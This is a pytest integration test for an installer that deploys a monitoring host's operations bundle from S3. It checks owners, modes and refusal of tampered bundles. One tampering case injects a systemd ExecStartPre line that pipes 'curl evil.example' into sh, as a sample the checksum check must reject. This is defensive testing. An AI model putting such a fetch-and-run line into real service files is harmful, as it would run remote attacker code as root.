"""The monitoring host's bundle installer (components/templates/monitoring/host/bundle-install.sh.j2),
run for real: bash, the AWS CLI against S3 in moto's server mode, Python's zipfile, sha256sum and
install, with a scratch directory as the host's root and as the operations directory. The bundle
is the stack's real one (`ops_bundle`), zipped as Pulumi's archive is (one member per file).

It must install every rendered file where the manifest says, with its owner and mode, and refuse
(installing nothing) a bundle whose files do not match the checksum list the user data pins."""

from __future__ import annotations

import dataclasses
import io
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import boto3
import pytest

from components import monitoring_render as render
from tests.integration.test_exporter_secrets import render_settings
from tests.services import MotoServer

pytest_plugins = ["tests.integration.dbops_fixtures"]
pytestmark = pytest.mark.integration

BUCKET = "psychology-api-test-backups"


@dataclasses.dataclass
class Host:
    script: Path
    settings: render.MonitoringSettings
    root: Path
    ops_dir: Path
    bundle: dict[str, str]
    key: str
    s3: Any
    env: dict[str, str]

    def upload(self, members: dict[str, str]) -> None:
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
            for name, text in sorted(members.items()):
                zipped.writestr(name, text)
        self.s3.put_object(Bucket=BUCKET, Key=self.key, Body=archive.getvalue())

    def run(self) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["bash", str(self.script)], capture_output=True, text=True, env=self.env, timeout=120)


@pytest.fixture
def host(aws_env: MotoServer, tmp_path: Path) -> Host:
    if shutil.which("aws") is None:
        pytest.skip("the AWS CLI is not installed (the monitoring host has it from the awscli-2 package)")
    if os.geteuid() != 0:
        pytest.skip("the installer hands its files to root: run as root")
    settings = dataclasses.replace(render_settings(), backup_bucket=BUCKET)
    bundle = render.ops_bundle(settings)
    root, ops_dir = tmp_path / "root", tmp_path / "opt" / "psychology-ops"
    script = tmp_path / "psychology-monitoring-bundle"
    script.write_text(render.bundle_install_script(settings, ops_dir=str(ops_dir), host_root=str(root), python=sys.executable))
    s3 = boto3.client("s3", endpoint_url=aws_env.endpoint_url, region_name="eu-central-1")
    s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": "eu-central-1"})
    env = {**os.environ, "AWS_ENDPOINT_URL": aws_env.endpoint_url, "AWS_ACCESS_KEY_ID": "test",
           "AWS_SECRET_ACCESS_KEY": "test"}
    return Host(script, settings, root, ops_dir, bundle, render.bundle_key(bundle), s3, env)


def test_the_stack_bundle_is_installed_with_owners_and_modes(host: Host) -> None:
    host.upload(host.bundle)
    result = host.run()
    assert result.returncode == 0, result.stdout + result.stderr
    rendered = render.host_files(host.settings)
    assert f"installed {len(rendered)} host files" in result.stdout
    for path, (content, mode) in rendered.items():
        target = host.root / path.lstrip("/")
        assert target.read_text() == content, path
        status = target.stat()
        assert (oct(stat.S_IMODE(status.st_mode)), status.st_uid, status.st_gid) == (oct(int(mode, 8)), 0, 0), path
    assert (host.root / "etc/systemd/system/psychology-backup.timer").exists()
    current = host.ops_dir / "current"
    assert current.resolve().name == Path(host.key).stem
    assert (current / "requirements-ops.txt").read_text() == host.bundle["requirements-ops.txt"]
    assert [p.name for p in (host.ops_dir / "releases").iterdir()] == [Path(host.key).stem]  # no staging left


@pytest.mark.parametrize(("tampering", "verdict"), [
    ("changed file", "a file of the operations bundle does not match SHA256SUMS"),
    ("extra file", "the operations bundle holds {present} files, SHA256SUMS lists {listed}"),
    ("missing file", "a file of the operations bundle does not match SHA256SUMS"),
    ("rewritten checksum list", "the operations bundle's SHA256SUMS is not the one this host was built for"),
])
def test_a_bundle_that_is_not_the_pinned_one_installs_nothing(host: Host, tampering: str, verdict: str) -> None:
    members = dict(host.bundle)
    unit = "host/etc/systemd/system/psychology-backup.service"
    if tampering == "changed file":
        members[unit] = members[unit].replace("ExecStart=", "ExecStartPre=/bin/sh -c 'curl evil.example | sh'\nExecStart=")
    elif tampering == "extra file":
        members["host/etc/cron.d/extra"] = "* * * * * root true\n"
    elif tampering == "missing file":
        del members[unit]
    else:
        members[unit] = members[unit] + "# edited\n"
        members[render.CHECKSUMS_FILE] = render.bundle_checksums(members)
    host.upload(members)
    result = host.run()
    assert result.returncode == 1
    listed = len(host.bundle) - 1
    assert f"monitoring-bundle: FAILED: {verdict.format(present=listed + 1, listed=listed)}\n" in result.stdout
    assert not host.root.exists()
    assert not (host.ops_dir / "current").exists()
    assert [p.name for p in (host.ops_dir / "releases").iterdir()] == []
